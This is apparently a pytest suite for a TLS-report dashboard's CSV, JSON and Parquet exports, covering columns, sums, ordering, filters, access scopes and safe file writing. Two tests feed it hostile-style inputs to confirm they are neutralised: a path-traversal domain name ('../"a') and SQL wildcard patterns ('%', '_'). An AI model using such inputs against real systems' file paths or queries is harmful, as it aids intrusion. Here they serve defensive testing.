"""Exports: what they say, on both engines; that a file is whole or absent; that text from strangers stays text."""

import csv
import datetime as dt
import email
import errno
import gc
import gzip
import io
import json
import os
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from dashboard.decision.verdict import Verdict
from dashboard.exports import formats, reading, writing
from dashboard.exports.writing import EXPORTS, FORMATS, ExportRefused, FileNotWritable, Filters
from dashboard.queries.question import Question, Scope
from dashboard.verdicts import current_from
from ingest.database import engines, models
from ingest.database.engines import DatabaseAway
from ingest.settings import settings as settings_module
from ingest.settings.settings import Settings
from ingest.spool import channels
from ingest.store.upkeep import upgrades
from tests.databases import create_database
from tests.reports import detail, entry, mail, report_json
from tests.stored import store_file, store_report, store_reports, submission
from tests.support import CORPUS

# docs/exports.md: the public interface, which does not change.
HEADERS = {
    "summary": "day,policy_domain,reporter,policy_type,policy_mode,trust,reports,successful_sessions,failed_sessions,refused_sessions",
    "failures": "day,policy_domain,reporter,report_id,policy_type,policy_mode,trust,result_type,failed_sessions,refused,sending_mta_ip,receiving_mx_hostname,receiving_mx_helo,receiving_ip,failure_reason_code,additional_information",
    "domains": "policy_domain,verdict,policy_mode,window_start,window_end,reporters,sessions,refused_sessions,refusal_bound,last_report_day,reasons",
    "reports": "received_at,policy_domain,reporter,report_id,range_start,range_end,door,trust,signer,policies,successful_sessions,failed_sessions,contradicted",
}
HUGE = 2**53 - 1
NOTHING = Filters()


@pytest.fixture
def settings(settings_for: Callable[..., Settings]) -> Settings:
    return settings_for()


def exported(engine: sa.Engine, kind: str, form: str = "csv", filters: Filters = NOTHING) -> bytes:
    target = io.BytesIO()
    written = writing.write(engine, kind, form, filters, target)
    assert not target.closed
    if form == "json":
        assert written == len(json.loads(target.getvalue()))
    return target.getvalue()


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8", "strict"), newline=""), strict=True))


def rows(engine: sa.Engine, kind: str, filters: Filters = NOTHING) -> list[dict[str, Any]]:
    value: list[dict[str, Any]] = json.loads(exported(engine, kind, "json", filters))
    return value


def parquet_rows(data: bytes) -> list[dict[str, Any]]:
    value: list[dict[str, Any]] = pq.read_table(io.BytesIO(data)).to_pylist()
    return value


# What each export says


@pytest.mark.parametrize("kind", EXPORTS)
def test_the_columns_are_those_of_the_design_also_without_rows(sqlite_engine: sa.Engine, kind: str) -> None:
    assert exported(sqlite_engine, kind).decode() == HEADERS[kind] + "\r\n"
    assert exported(sqlite_engine, kind, "json") == b"[]\n"
    table = pq.read_table(io.BytesIO(exported(sqlite_engine, kind, "parquet")))
    assert ",".join(table.column_names) == HEADERS[kind]


def test_a_summary_row_is_complete(engine: sa.Engine, settings: Settings) -> None:
    store_report(engine, report_json(), settings)
    assert csv_rows(exported(engine, "summary")) == [
        {
            "day": "2026-03-14",
            "policy_domain": "receiver.example",
            "reporter": "Sender Inc.",
            "policy_type": "sts",
            "policy_mode": "testing",
            "trust": "verified",
            "reports": "1",
            "successful_sessions": "41",
            "failed_sessions": "6",
            "refused_sessions": "6",
        }
    ]


def test_summary_groups_reports_of_one_day_reporter_type_mode_and_trust(engine: sa.Engine, settings: Settings) -> None:
    store_report(engine, report_json(entry(1), entry(2), report_id="a"), settings)
    store_report(engine, report_json(entry(4), report_id="b"), settings)
    store_report(engine, report_json(entry(8), report_id="c"), settings, trust="unauthenticated")
    store_report(engine, report_json(entry(16), entry(32, policy_type="tlsa"), organization_name="Other"), settings)
    groups = [
        (row["reporter"], row["policy_type"], row["trust"], row["reports"], row["successful_sessions"])
        for row in rows(engine, "summary")
    ]
    assert groups == [
        ("Other", "sts", "verified", 1, 16),
        ("Other", "tlsa", "verified", 1, 32),
        ("Sender Inc.", "sts", "unauthenticated", 1, 8),
        ("Sender Inc.", "sts", "verified", 2, 7),
    ]


def test_missing_counts_are_empty_and_only_those(engine: sa.Engine, settings: Settings) -> None:
    store_report(engine, report_json(entry(None, 3, detail(sessions=None))), settings)
    (row,) = csv_rows(exported(engine, "summary"))
    assert (row["successful_sessions"], row["failed_sessions"], row["refused_sessions"]) == ("", "3", "3")
    assert [(row["result_type"], row["failed_sessions"]) for row in csv_rows(exported(engine, "failures"))] == [
        ("unexplained", "3"),
        ("certificate-expired", ""),
    ]
    (row,) = rows(engine, "reports")
    assert (row["successful_sessions"], row["failed_sessions"]) == (None, 3)
    (table,) = parquet_rows(exported(engine, "summary", "parquet"))
    assert table["successful_sessions"] is None


def test_a_missing_count_does_not_hide_one_that_is_there(engine: sa.Engine, settings: Settings) -> None:
    store_report(engine, report_json(entry(None, 0), entry(5, 0)), settings)
    assert rows(engine, "summary")[0]["successful_sessions"] == 5


def test_a_report_without_entries_is_in_the_summary(engine: sa.Engine, settings: Settings) -> None:
    store_report(engine, report_json(policies=[]), settings)
    store_report(engine, report_json(entry(1, policy_type="", policy_domain=...)), settings)
    summary = rows(engine, "summary")
    assert [(row["policy_domain"], row["policy_type"], row["reports"]) for row in summary] == [
        ("", "", 1),
        ("receiver.example", "", 1),
    ]
    assert (summary[0]["successful_sessions"], summary[0]["refused_sessions"]) == (None, 0)


@pytest.mark.parametrize(
    ("counts", "total"),
    [
        ([HUGE], HUGE),
        ([HUGE, 1], HUGE + 1),
        ([2**52, 2**52 - 3, 1], 2**53 - 2),
        ([2**26 - 1, 2**26, 1], 2**27),
        ([HUGE] * 1023, HUGE * 1023),  # below 2^63
        ([HUGE] * 2000, 2**63 - 1),  # what a 64-bit column holds
    ],
)
def test_sums_are_exact_and_never_overflow(
    engine: sa.Engine, settings: Settings, counts: list[int], total: int
) -> None:
    store_report(engine, report_json(*(entry(count, 0) for count in counts)), settings, trust="imported")
    assert rows(engine, "summary")[0]["successful_sessions"] == total
    assert rows(engine, "domains", Filters(until=dt.date(2026, 3, 20)))[0]["sessions"] == total
    assert parquet_rows(exported(engine, "summary", "parquet"))[0]["successful_sessions"] == total


def test_failures_are_one_row_for_each_detail_and_one_for_the_unexplained(
    engine: sa.Engine, settings: Settings
) -> None:
    failure = detail(
        "validation-failure",
        2,
        receiving_mx_helo="mx1.receiver.example",
        failure_reason_code="X",
        additional_information="see log",
    )
    store_report(engine, report_json(entry(1, 9, failure, detail("sts-policy-fetch-error", 3))), settings)
    told = csv_rows(exported(engine, "failures"))
    common = ("2026-03-14", "receiver.example", "Sender Inc.", "2026-03-14T00:00:00Z_receiver.example")
    assert [tuple(row.values())[:4] for row in told] == [common] * 3
    assert [tuple(row.values())[4:] for row in told] == [
        ("sts", "testing", "verified", "unexplained", "4", "true", "", "", "", "", "", ""),
        (
            "sts",
            "testing",
            "verified",
            "validation-failure",
            "2",
            "true",
            "192.0.2.1",
            "mx1.receiver.example",
            "mx1.receiver.example",
            "198.51.100.1",
            "X",
            "see log",
        ),
        (
            "sts",
            "testing",
            "verified",
            "sts-policy-fetch-error",
            "3",
            "false",
            "192.0.2.1",
            "mx1.receiver.example",
            "",
            "198.51.100.1",
            "",
            "",
        ),
    ]


@pytest.mark.parametrize(("policy_type", "refused"), [("sts", True), ("tlsa", False), ("no-policy-found", False)])
def test_unexplained_failures_are_refused_only_under_mta_sts(
    engine: sa.Engine, settings: Settings, policy_type: str, refused: bool
) -> None:
    store_report(engine, report_json(entry(1, 2, policy_type=policy_type)), settings)
    assert [row["refused"] for row in rows(engine, "failures")] == [refused]


def test_details_that_overlap_leave_nothing_unexplained(engine: sa.Engine, settings: Settings) -> None:
    store_report(engine, report_json(entry(0, 1, detail(sessions=1), detail(sessions=1))), settings)
    assert [row["failed_sessions"] for row in rows(engine, "failures")] == [1, 1]


def test_failures_keep_the_entries_of_a_report_apart(engine: sa.Engine, settings: Settings) -> None:
    store_report(
        engine,
        report_json(entry(0, 1, detail(sessions=1)), entry(0, 5, detail("dane-required", 2), policy_type="tlsa")),
        settings,
    )
    failures = [(row["policy_type"], row["result_type"], row["failed_sessions"]) for row in rows(engine, "failures")]
    assert failures == [("sts", "certificate-expired", 1), ("tlsa", "unexplained", 3), ("tlsa", "dane-required", 2)]


def test_domains_say_the_verdict_of_the_day(engine: sa.Engine, settings: Settings) -> None:
    def store(*entries: Any, trust: str = "verified", name: str = "A", day: str = "2026-03-14") -> None:
        contact = f"tls@{name.lower()}.example"
        report = report_json(*entries, organization_name=name, contact_info=contact, day=day)
        raw = report if trust == "verified" else mail(report, submitter=f"{name.lower()}.example")
        # A well-known signer: what newcomers say moves no verdict.
        store_reports(engine, [submission(raw, settings, trust=trust, signer="google.com")])

    store(entry(10, 4, detail(sessions=1)), entry(100, 0, policy_type="tlsa"))
    store(entry(20, 0), name="B", trust="imported")
    store(entry(1000, 1000), name="C", trust="unverified", day="2026-03-16")
    assert rows(engine, "domains", Filters(until=dt.date(2026, 3, 17))) == [
        {
            "policy_domain": "receiver.example",
            "verdict": "not-ready",
            "policy_mode": "testing",
            "window_start": "2026-03-01",
            "window_end": "2026-03-14",
            "reporters": 2,
            "sessions": 34,
            "refused_sessions": 4,
            "refusal_bound": pytest.approx(0.249305, abs=1e-6),
            "last_report_day": "2026-03-16",
            "reasons": "refused-sessions=4",
        }
    ]


def test_no_more_domains_are_held_than_are_judged_together(
    engine: sa.Engine, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    names = [f"d{number}.example" for number in range(7)]
    values = [report_json(entry(1, policy_domain=name), report_id=name) for name in names]
    store_reports(engine, [submission(value, settings) for value in values])
    judged: list[int] = []

    def counted(connection: sa.Connection, question: Question, domains: list[str]) -> Iterator[Verdict]:
        judged.append(len(domains))
        return current_from(connection, question, domains)

    monkeypatch.setattr(reading, "current_from", counted)
    monkeypatch.setattr(reading, "_STREAMED", {"stream_results": True, "yield_per": 3})
    assert [row["policy_domain"] for row in rows(engine, "domains")] == names
    assert judged == [3, 3, 1]


def test_a_domain_that_only_strangers_speak_about_has_no_evidence(engine: sa.Engine, settings: Settings) -> None:
    store_report(engine, report_json(), settings, trust="unverified")
    (row,) = rows(engine, "domains", Filters(until=dt.date(2026, 3, 17)))
    assert (row["reporters"], row["sessions"], row["refused_sessions"], row["policy_mode"]) == (0, 0, 0, None)
    assert (row["verdict"], row["refusal_bound"]) == ("insufficient-evidence", 1.0)


def test_the_mode_of_a_domain_is_remembered_when_nobody_reports_any_more(engine: sa.Engine, settings: Settings) -> None:
    lines = ["version: STSv1", "mode: enforce", "mx: mx1.receiver.example", "max_age: 86400"]
    store_report(engine, report_json(entry(1, policy_string=lines)), settings, trust="imported")
    (row,) = rows(engine, "domains", Filters(question=Question(dt.date(2026, 11, 1))))
    assert (row["policy_mode"], row["verdict"], row["sessions"]) == ("enforce", "enforcing", 0)
    assert row["reasons"] == "nothing-refused=0 no-recent-evidence=0"


def test_a_reports_row_is_complete(engine: sa.Engine, settings: Settings) -> None:
    store_report(engine, report_json(entry(41, 6), entry(3, 1, policy_type="tlsa")), settings)
    assert csv_rows(exported(engine, "reports")) == [
        {
            "received_at": "2026-03-15T10:11:12Z",
            "policy_domain": "receiver.example",
            "reporter": "Sender Inc.",
            "report_id": "2026-03-14T00:00:00Z_receiver.example",
            "range_start": "2026-03-14T00:00:00Z",
            "range_end": "2026-03-14T23:59:59Z",
            "door": "smtp",
            "trust": "verified",
            "signer": "sender.example",
            "policies": "2",
            "successful_sessions": "44",  # tlsa lists other sessions than sts
            "failed_sessions": "7",
            "contradicted": "false",
        }
    ]


def test_sessions_that_tlsa_lists_again_count_once(engine: sa.Engine, settings: Settings) -> None:
    """Microsoft lists the same sessions under both types in every report; one report that differs shows that it does not."""
    equal = report_json(entry(7), entry(5, 2, policy_type="tlsa"), day="2026-03-14")
    store_report(engine, equal, settings)
    assert [(row["successful_sessions"], row["failed_sessions"]) for row in rows(engine, "reports")] == [(7, 0)]
    forged = report_json(entry(7), entry(1, policy_type="tlsa"), day="2026-03-15")
    store_report(engine, forged, settings, trust="unverified")
    assert [(row["successful_sessions"], row["trust"]) for row in rows(engine, "reports")] == [
        (7, "verified"),
        (8, "unverified"),
    ]
    store_report(engine, report_json(entry(3), entry(6, policy_type="tlsa"), day="2026-03-16"), settings)
    sums = [(row["successful_sessions"], row["failed_sessions"], row["trust"]) for row in rows(engine, "reports")]
    assert sums == [(12, 2, "verified"), (8, 0, "unverified"), (9, 0, "verified")]


def test_a_copy_is_no_row_and_a_contradiction_is_said(engine: sa.Engine, settings: Settings) -> None:
    store_report(engine, report_json(entry(10, 1, detail())), settings)
    store_report(engine, report_json(entry(10, 1, detail())), settings, trust="imported")
    store_report(engine, report_json(entry(20, 0)), settings, trust="imported")
    store_report(engine, report_json(entry(99, 9)), settings, trust="unauthenticated")
    assert [(row["trust"], row["successful_sessions"], row["contradicted"]) for row in rows(engine, "reports")] == [
        ("imported", 20, True),
        ("unauthenticated", 99, False),
    ]
    sums = ("trust", "reports", "successful_sessions", "failed_sessions", "refused_sessions")
    assert [tuple(row[name] for name in sums) for row in rows(engine, "summary")] == [
        ("imported", 1, 20, 0, 0),
        ("unauthenticated", 1, 99, 9, 9),
        ("verified", 0, None, None, 1),
    ]
    assert sorted((row["trust"], row["failed_sessions"]) for row in rows(engine, "failures")) == [
        ("unauthenticated", 9),
        ("verified", 1),
    ]


def test_times_have_one_form_that_pandas_reads(engine: sa.Engine, settings: Settings) -> None:
    exact = "2026-03-14T10:00:00.123456789+00:00"
    store_report(engine, report_json(), settings)
    store_report(engine, report_json(date_range={"start-datetime": exact, "end-datetime": exact}), settings)
    data = exported(engine, "reports")
    tables = [pd.read_csv(io.BytesIO(data)), pd.DataFrame(rows(engine, "reports"))]
    for table in tables:
        for name in ("received_at", "range_start", "range_end"):
            assert table[name].str.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ").all(), table[name]
            assert str(pd.to_datetime(table[name]).dt.tz) == "UTC"
        assert set(table["range_start"]) == {"2026-03-14T00:00:00Z", "2026-03-14T10:00:00Z"}
    in_parquet = {row["range_start"].microsecond for row in parquet_rows(exported(engine, "reports", "parquet"))}
    assert in_parquet == {0, 123456}


def test_a_report_about_two_domains_is_two_rows(engine: sa.Engine, settings: Settings) -> None:
    store_report(engine, report_json(entry(1), entry(2, policy_domain="b.example")), settings)
    assert [(row["policy_domain"], row["successful_sessions"]) for row in rows(engine, "reports")] == [
        ("b.example", 2),
        ("receiver.example", 1),
    ]


@pytest.mark.parametrize("kind", EXPORTS)
def test_the_three_formats_agree(engine: sa.Engine, settings: Settings, kind: str) -> None:
    store_report(engine, report_json(), settings)
    store_report(engine, report_json(entry(None, 3, detail(sessions=None)), day="2026-03-15"), settings)
    in_json = rows(engine, kind)
    assert len(in_json) > 0

    def as_csv(value: Any) -> str:
        if isinstance(value, dt.datetime):
            return value.strftime("%Y-%m-%dT%H:%M:%SZ")
        return "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)

    assert csv_rows(exported(engine, kind)) == [{name: as_csv(v) for name, v in row.items()} for row in in_json]
    from_parquet = parquet_rows(exported(engine, kind, "parquet"))
    assert [{name: as_csv(v) for name, v in row.items()} for row in from_parquet] == csv_rows(exported(engine, kind))


def test_parquet_columns_have_types(sqlite_engine: sa.Engine) -> None:
    types = {
        f"{kind}.{field.name}": str(field.type)
        for kind in EXPORTS
        for field in pq.read_schema(io.BytesIO(exported(sqlite_engine, kind, "parquet")))
    }
    assert types["summary.day"] == "date32[day]"
    assert types["summary.failed_sessions"] == "int64"
    assert types["failures.refused"] == "bool"
    assert types["reports.received_at"] == "timestamp[us, tz=UTC]"
    assert types["domains.refusal_bound"] == "double"
    assert types["domains.verdict"] == "string"


@pytest.mark.parametrize("kind", EXPORTS)
def test_rows_are_ordered_by_code_points_on_both_engines(engine: sa.Engine, settings: Settings, kind: str) -> None:
    names = ["a", "B", "_", "é", "z", "Z", "中", "a b", "a-b", "ab", ""]
    store_reports(
        engine,
        [
            submission(
                report_json(entry(1, 1, policy_domain=domain), organization_name=name, day=day, report_id=f"{number}"),
                settings,
            )
            for number, name in enumerate(names)
            for domain in ("b.example", "a-b.example", "a.example")
            for day in ("2026-03-15", "2026-03-14")
        ],
    )
    exported_rows = rows(engine, kind)
    keys = [
        (row.get("day", row.get("range_start", "")), row["policy_domain"], row.get("reporter", ""))
        for row in exported_rows
    ]
    assert keys == sorted(keys)
    assert len(set(keys)) == len(keys) == (3 if kind == "domains" else 66)


def test_rows_are_ordered_wherever_they_lie_on_disk(engine: sa.Engine, settings: Settings) -> None:
    causes = ("certificate-expired", "starttls-not-supported")
    two = [entry(1, 2, *(detail(cause) for cause in causes), policy_type=word) for word in ("sts", "tlsa")]
    store_reports(engine, [submission(report_json(*two, report_id=str(number)), settings) for number in range(9)])
    before = exported(engine, "failures")
    with engine.begin() as connection:
        for table in (models.policy_entry, models.failure_detail):
            lying = [dict(row) for row in connection.execute(sa.select(table)).mappings()]
            connection.execute(sa.delete(table))
            for row in reversed(lying):
                connection.execute(sa.insert(table).values(row))
    engine.dispose()
    if engine.dialect.name == "postgresql":

        @sa.event.listens_for(engine, "connect")
        def _read_tables_from_their_beginning(connection: Any, _record: Any) -> None:
            connection.execute("SET enable_indexscan = off")
            connection.execute("SET enable_bitmapscan = off")
            connection.commit()

    assert exported(engine, "failures") == before


# Filters


@pytest.fixture
def three_days(engine: sa.Engine, settings: Settings) -> sa.Engine:
    for day in ("2026-03-13", "2026-03-14", "2026-03-15"):
        two = [entry(1, 1), entry(1, 1, policy_domain="mx.receiver.example")]
        store_report(engine, report_json(*two, day=day), settings)
    return engine


@pytest.mark.parametrize(
    ("asked", "days"),
    [
        ({}, [13, 14, 15]),
        ({"since": dt.date(2026, 3, 14)}, [14, 15]),
        ({"until": dt.date(2026, 3, 14)}, [13, 14]),
        ({"since": dt.date(2026, 3, 14), "until": dt.date(2026, 3, 14)}, [14]),
        ({"since": dt.date(2026, 3, 16)}, []),
        ({"domain": "receiver.example"}, [13, 14, 15]),
        ({"domain": "RECEIVER.example."}, [13, 14, 15]),  # as people write it
        ({"domain": "example"}, []),  # a parent is another domain
        ({"domain": ["receiver.example", "b.example"]}, [13, 14, 15]),
    ],
)
def test_filters(three_days: sa.Engine, asked: dict[str, Any], days: list[int]) -> None:
    chosen = Filters.read(**asked)
    for kind in ("summary", "failures", "reports"):
        exported_rows = rows(three_days, kind, chosen)
        domains = {"receiver.example"} if "domain" in asked else {"receiver.example", "mx.receiver.example"}
        assert {row["policy_domain"] for row in exported_rows} == (domains if days else set())
        assert sorted({int((row.get("day") or row["range_start"])[8:10]) for row in exported_rows}) == days
    last = {row["last_report_day"] for row in rows(three_days, "domains", chosen)}
    assert last == ({f"2026-03-{days[-1]}"} if days else set())


@pytest.mark.parametrize(
    ("allowed", "seen"),
    [
        (None, ["mx.receiver.example", "receiver.example"]),
        (("*",), ["mx.receiver.example", "receiver.example"]),
        (("receiver.example",), ["receiver.example"]),
        (("*.receiver.example",), ["mx.receiver.example"]),
        (("*.Receiver.example", "receiver.EXAMPLE"), ["mx.receiver.example", "receiver.example"]),
        (("*.eceiver.example", "*.r_ceiver.example", "_eceiver.example", "%"), []),  # no pattern of SQL's
        ((), []),  # who is allowed nothing sees nothing
    ],
)
def test_nothing_beyond_the_allowed_domains(
    three_days: sa.Engine, allowed: tuple[str, ...] | None, seen: list[str]
) -> None:
    for kind in EXPORTS:
        for asked in ((), ("receiver.example", "mx.receiver.example")):
            question = Question(dt.date(2026, 11, 1), Scope(allowed))
            exported_rows = rows(three_days, kind, Filters(asked, question=question))
            assert sorted({row["policy_domain"] for row in exported_rows}) == seen


@pytest.mark.parametrize(
    ("asked", "refusal"),
    [
        (
            {"since": dt.date(2026, 3, 14), "until": dt.date(2026, 3, 13)},
            r"the last day \(2026-03-13\) is before the first day",
        ),
        ({"domain": "a b"}, "'a b' is no policy domain"),
    ],
)
def test_filters_that_cannot_be_meant_are_refused(asked: dict[str, Any], refusal: str) -> None:
    with pytest.raises(ExportRefused, match=refusal):
        Filters.read(**asked)


@pytest.mark.parametrize(
    ("kind", "form", "refusal"),
    [
        ("everything", "csv", "'everything'; choose one of summary, failures, domains, reports"),
        ("summary", "xlsx", "'xlsx'; choose one of csv, json, parquet"),
    ],
)
def test_unknown_words_are_refused_with_the_known_ones(
    sqlite_engine: sa.Engine, tmp_path: Path, kind: str, form: str, refusal: str
) -> None:
    with pytest.raises(ExportRefused, match=refusal):
        writing.write(sqlite_engine, kind, form, NOTHING, io.BytesIO())
    with pytest.raises(ExportRefused, match=refusal):
        writing.write_file(sqlite_engine, kind, form, NOTHING, tmp_path / "out")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("filters", "name"),
    [
        (Filters(), "starttally-summary.csv"),
        (Filters(("a.example",)), "starttally-summary-a.example.csv"),
        (Filters(("a.example", "b.example")), "starttally-summary-2-domains.csv"),
        (Filters.read(since=dt.date(2026, 3, 1)), "starttally-summary-from-2026-03-01.csv"),
        (Filters.read(until=dt.date(2026, 3, 1)), "starttally-summary-to-2026-03-01.csv"),
        (
            Filters.read("a.example", dt.date(2026, 3, 1), dt.date(2026, 3, 14)),
            "starttally-summary-a.example-2026-03-01-2026-03-14.csv",
        ),
        (Filters(('../"a',)), "starttally-summary-..__a.csv"),  # what strangers call a domain
    ],
)
def test_file_names(filters: Filters, name: str) -> None:
    assert writing.file_name("summary", "csv", filters) == name


# Files


@pytest.mark.parametrize("form", FORMATS)
def test_a_file_is_what_write_writes(sqlite_engine: sa.Engine, settings: Settings, tmp_path: Path, form: str) -> None:
    store_report(sqlite_engine, report_json(), settings)
    path = tmp_path / "out"
    assert writing.write_file(sqlite_engine, "failures", form, NOTHING, path) == 2
    assert path.read_bytes() == exported(sqlite_engine, "failures", form)


@pytest.mark.parametrize("form", FORMATS)
def test_a_failed_export_leaves_the_old_file_and_no_other(
    sqlite_engine: sa.Engine, settings: Settings, tmp_path: Path, form: str
) -> None:
    store_report(sqlite_engine, report_json(), settings)
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "failures").write_text("old")

    def interrupted(_rows: int) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        writing.write_file(sqlite_engine, "failures", form, NOTHING, folder / "failures", interrupted)
    assert [(path.name, path.read_text()) for path in folder.iterdir()] == [("failures", "old")]
    assert sqlite_engine.pool.checkedout() == 0  # type: ignore[attr-defined]


def test_a_replaced_file_keeps_its_permissions_and_its_link(sqlite_engine: sa.Engine, tmp_path: Path) -> None:
    (tmp_path / "real").write_text("old")
    (tmp_path / "real").chmod(0o600)
    (tmp_path / "link").symlink_to("real")
    writing.write_file(sqlite_engine, "reports", "csv", NOTHING, tmp_path / "link")
    assert (tmp_path / "link").is_symlink()
    assert (tmp_path / "real").read_text().startswith("received_at,")
    assert (tmp_path / "real").stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("missing/out.csv", "No such file or directory"),
        ("file/out.csv", "Not a directory"),
        (".", "Is a directory"),
        ("n" * 300, "File name too long"),
    ],
)
def test_a_file_that_cannot_be_written_is_named(
    sqlite_engine: sa.Engine, tmp_path: Path, name: str, reason: str
) -> None:
    (tmp_path / "file").touch()
    with pytest.raises(FileNotWritable, match=reason) as raised:
        writing.write_file(sqlite_engine, "reports", "csv", NOTHING, tmp_path / name)
    assert str(tmp_path / name) in str(raised.value)


def test_a_full_disk_is_named_and_nothing_is_left(
    sqlite_engine: sa.Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(_descriptor: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    folder = tmp_path / "out"
    folder.mkdir()
    with pytest.raises(FileNotWritable, match=r"out/reports\.csv cannot be written: No space left on device"):
        writing.write_file(sqlite_engine, "reports", "csv", NOTHING, folder / "reports.csv")
    assert list(folder.iterdir()) == []


def test_a_named_pipe_is_written_to_and_stays_one(sqlite_engine: sa.Engine, tmp_path: Path) -> None:
    """As /dev/stdout and /dev/null do. Not tried on those: a fault here would replace them for the whole machine."""
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    writing.write_file(sqlite_engine, "reports", "csv", NOTHING, pipe)
    assert os.read(reader, 10_000).decode() == HEADERS["reports"] + "\r\n"
    os.close(reader)
    assert pipe.is_fifo()


@pytest.mark.parametrize("form", FORMATS)
def test_what_the_target_raises_reaches_the_caller(
    engine: sa.Engine, settings: Settings, tmp_path: Path, form: str
) -> None:
    store_report(engine, report_json(), settings)

    class Closed(io.RawIOBase):
        def writable(self) -> bool:
            return True

        def write(self, _data: Any) -> int:
            raise BrokenPipeError

    with pytest.raises(BrokenPipeError):
        writing.write(engine, "failures", form, NOTHING, Closed())  # type: ignore[arg-type]
    assert engine.pool.checkedout() == 0  # type: ignore[attr-defined]


def test_half_a_parquet_file_is_none(sqlite_engine: sa.Engine, settings: Settings) -> None:
    """A Parquet writer that is thrown away writes its footer all the same, and what came so far looks complete."""
    store_report(sqlite_engine, report_json(*(entry(0, 1, detail()) for _ in range(300))), settings)
    target = io.BytesIO()

    def interrupted(_rows: int) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        writing.write(sqlite_engine, "failures", "parquet", NOTHING, target, interrupted)
    gc.collect()
    assert target.getvalue() == b"PAR1"  # what a file begins with


def test_a_database_that_is_away_is_named(tmp_path: Path) -> None:
    engine = engines.open_engine(f"sqlite:///{tmp_path}/absent.db", read_only=True)
    with pytest.raises(DatabaseAway):
        writing.write(engine, "reports", "csv", NOTHING, io.BytesIO())


def test_a_read_only_engine_is_enough_and_keeps_no_writer_waiting(
    engine: sa.Engine, database_url: str, settings: Settings
) -> None:
    store_report(engine, report_json(), settings)
    reader = engines.open_engine(database_url, read_only=True)

    def write_meanwhile(_rows: int) -> None:
        store_report(engine, report_json(day="2026-03-15"), settings)

    assert writing.write(reader, "reports", "csv", NOTHING, io.BytesIO(), write_meanwhile) == 1
    reader.dispose()
    assert len(rows(engine, "reports")) == 2


# Streaming


def test_rows_are_taken_from_the_database_while_they_are_written(engine: sa.Engine, settings: Settings) -> None:
    store_report(engine, report_json(*(entry(0, 1, detail()) for _ in range(1000))), settings)
    sizes: list[int] = []
    target = io.BytesIO()
    seen: list[int] = []

    def progress(written: int) -> None:
        seen.append(written)
        sizes.append(target.tell())

    assert writing.write(engine, "failures", "csv", NOTHING, target, progress) == 1000
    assert seen == [200, 400, 600, 800, 1000, 1000]
    assert sizes[:-1] == sorted(set(sizes))  # each part is written before the next one is fetched


def test_postgresql_hands_over_a_part_at_a_time(
    postgresql_server: str, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = create_database(postgresql_server)
    upgrades.migrate(url)
    engine = engines.open_engine(url)
    store_report(engine, report_json(), settings)
    cursors: dict[str, str] = {}

    @sa.event.listens_for(engine, "after_cursor_execute")
    def _note(_connection: Any, cursor: Any, statement: str, *_: Any) -> None:
        cursors[statement] = type(cursor).__name__

    # The export of domains reads their names at once, and the rest for some of them at a time.
    for kind in sorted(set(EXPORTS) - {"domains"}):
        cursors.clear()
        exported(engine, kind)
        grows = {name for sql, name in cursors.items() if "FROM report" in sql and "SELECT DISTINCT" not in sql}
        assert grows == {"ServerCursor"}
        assert all('COLLATE "C"' in sql for sql, name in cursors.items() if name == "ServerCursor")
    engine.dispose()


@pytest.fixture
def many(engine: sa.Engine, database_url: str, settings: Settings) -> Iterator[sa.Engine]:
    """More reports of one day, and of one reporter, than are fetched together; a read-only engine on them."""
    names = [f"Sender {number % 3}" for number in range(240)]
    reports = [
        report_json(entry(1, 2, detail(sessions=1)), organization_name=name, report_id=f"{number:03}", day=day)
        for number, name in enumerate(names)
        for day in ("2026-03-14", "2026-03-15")
    ]
    store_reports(engine, [submission(report, settings) for report in reports])
    reader = engines.open_engine(database_url, read_only=True)
    yield reader
    reader.dispose()


def test_more_reports_than_are_fetched_together(many: sa.Engine) -> None:
    assert [tuple(row.values())[6:] for row in rows(many, "summary")] == [(80, 80, 160, 160)] * 6
    assert sum(row["successful_sessions"] for row in rows(many, "reports")) == 480
    failures = [(row["day"], row["reporter"], row["report_id"], row["result_type"]) for row in rows(many, "failures")]
    assert len(failures) == 960
    assert failures == sorted(failures, key=lambda row: (*row[:3], row[3] != "unexplained"))


def test_an_export_is_of_one_moment(many: sa.Engine, engine: sa.Engine) -> None:
    def forget(_written: int) -> None:
        with engine.begin() as connection:
            for table in (models.failure_detail, models.policy_entry, models.report):
                connection.execute(sa.delete(table))

    assert writing.write(many, "failures", "csv", NOTHING, io.BytesIO(), forget) == 960
    assert rows(many, "failures") == []


def test_large_details_are_fetched_for_fewer_reports(many: sa.Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    before = exported(many, "failures")
    fetched: list[int] = []
    details = reading._details

    def noting(connection: sa.Connection, keys: Any) -> Any:
        fetched.append(len(keys))
        return details(connection, keys)

    monkeypatch.setattr(reading, "_details", noting)
    monkeypatch.setattr(reading, "_CHARACTERS_TOGETHER", 6_000)
    assert exported(many, "failures") == before
    assert max(fetched) <= 12
    assert sum(fetched) == 480


def test_parquet_is_written_in_row_groups(
    sqlite_engine: sa.Engine, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(formats, "_GROUP_ROWS", 300)
    store_report(sqlite_engine, report_json(*(entry(0, 1, detail()) for _ in range(1000))), settings)
    groups = pq.ParquetFile(io.BytesIO(exported(sqlite_engine, "failures", "parquet"))).metadata
    assert [groups.row_group(number).num_rows for number in range(groups.num_row_groups)] == [300, 300, 300, 100]


